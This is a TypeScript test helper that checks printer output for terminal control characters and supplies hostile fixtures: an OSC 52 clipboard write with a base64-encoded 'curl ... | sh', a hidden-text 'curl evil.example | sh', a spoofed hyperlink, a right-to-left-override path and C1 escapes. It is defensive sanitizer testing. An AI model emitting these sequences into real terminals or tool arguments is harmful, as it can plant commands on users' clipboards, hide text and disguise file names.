import { expect } from 'vitest'

/**
 * For printer tests: nothing a terminal acts on is left in `text` (no C0 control but tab, LF and
 * a CR before LF; no DEL, C1, bidi control or tag character). Written apart from the rule in
 * ./terminalText.ts so that a gap in the rule fails here.
 */
export function expectInert(text: string): void {
  // eslint-disable-next-line no-control-regex -- what a terminal acts on
  expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/u)
  expect(text).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u)
}

/** Model text, a path and a tool argument carrying the public cases: OSC 52, OSC 8, hidden text, RLO. */
export const HOSTILE = {
  clipboard: 'Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
  link: '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\',
  hidden: 'safe\x1b[8m; curl evil.example | sh\x1b[0m',
  path: 'src/a\u202Est.ts',
  c1: '\u009b2J\u009d0;pwned\u009c',
}
